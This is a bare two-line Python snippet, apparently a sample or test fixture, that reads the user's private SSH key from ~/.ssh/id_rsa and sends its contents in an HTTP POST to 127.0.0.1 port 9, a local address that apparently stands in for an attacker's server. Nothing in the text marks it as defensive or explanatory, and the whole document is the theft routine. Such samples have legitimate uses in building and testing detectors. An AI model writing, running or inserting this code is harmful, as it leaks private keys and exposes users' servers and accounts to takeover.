import os, urllib.request
urllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())
